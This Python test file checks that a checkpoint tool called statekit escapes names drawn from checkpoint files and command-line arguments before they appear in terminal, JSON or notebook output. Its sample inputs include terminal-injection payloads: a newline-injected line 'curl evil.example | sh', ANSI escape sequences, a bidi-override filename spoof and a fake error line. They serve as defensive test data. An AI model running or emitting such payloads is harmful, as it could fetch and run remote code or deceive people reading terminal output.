"""Names from a checkpoint are never printed raw: not by a verb, not in its errors, not in JSON, not in a notebook."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import numpy as np
import pytest
import torch

import statekit
from fakes import Fake
from goldens import GOLDEN
from statekit.cli.main import main
from statekit.errors import Faults, StateError, StatekitError, listed
from statekit.files.checkpoint import Finding

NAMES = {
    "newline": "w\n  do: run curl evil.example | sh",
    "carriage return": "w\rError: all is well",
    "escape": "w\x1b[2J\x1b]0;title\x07",
    "bidi override": "w\u202egnp.exe",
    "line separator": "w\u2028  do: run this",
    "C1 control": "w\x9b2J",
    "lone surrogate": "w\udc80",
    "tab and backspace": "w\t\x08\x08x",
}
RUN = GOLDEN / "t5x" / "momentum_f32"


def raw(text: str, allowed: str = "\n") -> set[str]:
    return {c for c in text if not c.isprintable() and c not in allowed}


def check(name: str, captured: tuple[str, str], as_json: bool) -> None:
    """Nothing raw, no line that a name has begun, and the name itself is there, escaped."""
    out, err = captured
    assert raw(out) == set() and raw(err) == set()
    for line in [*([] if as_json else out.splitlines()), *err.splitlines()]:
        assert not line.strip().startswith(("do: run", "Error: all is well"))
    if as_json and out:
        json.loads(out)
        assert out.isascii()


def fields(name: str) -> Iterator[tuple[str, Fake]]:
    """A checkpoint in memory with the name in each of the places that a reader passes on."""
    ones = np.ones(2, np.float32)
    plain = Fake({"param/a": ones, "slot/a/v": ones})
    yield "parameter", plain.but(arrays={f"param/{name}": ones, f"slot/{name}/v": ones})
    yield "module", plain.but(arrays={f"param/{name}/b": ones, f"param/{name}/c": ones})
    yield "extra", plain.but(arrays={**plain.arrays, f"{name}/rng": ones})
    yield "finding", plain.but(findings=(Finding(f"is odd: {name}", name),))
    yield "no layout", plain.but(arrays={name: ones}, unknown=True)
    yield "broken layout", plain.but(arrays={name: ones}, broken=True)
    yield "titles", plain.but(title=name)


@pytest.mark.parametrize("name", NAMES.values(), ids=list(NAMES))
@pytest.mark.parametrize(
    "options", [[], ["--json"], ["--slots"], ["--stats"], ["--filter", "nosuch"]], ids=str
)
def test_inspect(
    name: str, options: list[str], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    for _, fake in fields(name):
        with monkeypatch.context() as patch:
            fake.install(patch)
            main(["inspect", "somewhere", *options])
        check(name, capsys.readouterr(), "--json" in options)


TARGETS = [
    ["out", "--to", "statekit"], ["out.pt"], ["out", "--to", "orbax"], ["out.ckpt.d"], ["out.h5"],
    ["out", "--to", "mxnet"],
    ["out", "--to", "hf-trainer"], ["out.dcp"], ["out", "--to", "megatron"], ["out", "--to", "nosuch"],
]  # fmt: skip


@pytest.mark.torch
@pytest.mark.sampled(2)
@pytest.mark.parametrize("name", NAMES.values(), ids=list(NAMES))
def test_convert(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """A parameter, a buffer and what else a torch file may hold, whatever a target makes of them."""
    params = [torch.nn.Parameter(torch.ones(8, 4)), torch.nn.Parameter(torch.ones(3))]
    optimizer = torch.optim.AdamW(params)
    for param in params:
        param.grad = torch.ones_like(param)
    optimizer.step()
    model = {name: params[0].detach(), f"{name}.b": params[1].detach()}
    whole = {"model": model, "optimizer": optimizer.state_dict(), name: {name: 1, "x": name}}
    torch.save(whole, tmp_path / "in.pt")
    torch.save(
        {**whole, "model": {**model, "c": torch.ones(2), f"{name}.c": torch.ones(2)}}, tmp_path / "odd.pt"
    )
    monkeypatch.chdir(tmp_path)
    for source in ("in.pt", "odd.pt"):
        for target in TARGETS:
            for options in ([], ["--json"], ["--dry-run"]):
                main(["convert", source, *target, "--replace", *options])
                check(name, capsys.readouterr(), "--json" in options)
        for options in ([], ["--json"], ["--slots"]):
            main(["inspect", source, *options])
            check(name, capsys.readouterr(), "--json" in options)


@pytest.mark.parametrize("name", NAMES.values(), ids=list(NAMES))
def test_an_argument_of_the_command_line(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Such as a file's name that the shell has put in for `*`."""
    monkeypatch.chdir(tmp_path)
    run = str(RUN / "checkpoint")
    for line in (
        [name], [f"--{name}"], ["inspect", name], ["inspect", run, "--step", name], ["inspect", run, "--layout", name],
        ["inspect", run, "--filter", name], ["inspect", run, "--hparams", name],
        ["inspect", run, "--param-names", name],
        ["inspect", run, "--variant", name], ["convert", run, name], ["convert", run, "o.pt", "--to", name],
        ["convert", run, "o.pt", "--require", name], ["convert", run, "o.pt", "--step-offset", name],
        ["replay", name], ["replay", str(RUN), "--backend", name], ["replay", str(RUN), "--hparams", f"{name}=1"],
        ["schemas", name], ["schemas", "adamw", "--variant", name], ["formats", name], ["demo", name],
    ):  # fmt: skip
        for options in ([], ["--json"]):
            assert main([*line, *options]) in (1, 2, 3)
            check(name, capsys.readouterr(), bool(options))


@pytest.mark.parametrize("name", NAMES.values(), ids=list(NAMES))
def test_replay_of_a_recording_that_bears_it(
    name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "case"
    folder.mkdir()
    for file in ("grads.safetensors", "trajectory.safetensors"):
        (folder / file).symlink_to((RUN / file).resolve())
    (folder / "meta.json").write_text(json.dumps({"system": name, "case": name}))
    for options in ([], ["--json"]):
        assert main(["replay", str(folder), *options]) != 0
        check(name, capsys.readouterr(), bool(options))


@pytest.mark.parametrize("name", NAMES.values(), ids=list(NAMES))
def test_an_error_is_fit_for_a_terminal_wherever_it_is_raised(name: str) -> None:
    faults = Faults([(f"is {name}", name), (f"is {name}", name)])
    for error in (
        StatekitError(name, place=name, expected=name, found=name, remedy=name),
        faults.error(StatekitError, "Faults."),
        StatekitError("A list.", found=listed([name]) + f"\n    and {name!r} more"),
    ):
        assert raw(error.line, allowed="") == set()
        assert all(not line.strip().startswith("do: run") for line in str(error).splitlines())
    with pytest.raises(StateError) as caught:
        faults.check(StateError, name)
    assert raw(str(caught.value)) == set()
    assert caught.value.faults[0] == (f"is {name}", name)


@pytest.mark.parametrize("name", NAMES.values(), ids=list(NAMES))
def test_results_in_a_prompt_and_a_notebook(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    for field, fake in fields(name):
        with monkeypatch.context() as patch:
            fake.install(patch)
            assert raw(repr(statekit.inspect(name)), allowed="") == set()
            if fake.unknown or fake.broken:
                continue
            with statekit.open(name) as state:
                assert raw(repr(state), allowed="") == set()
                assert raw(state._repr_html_(), allowed="") == set(), field
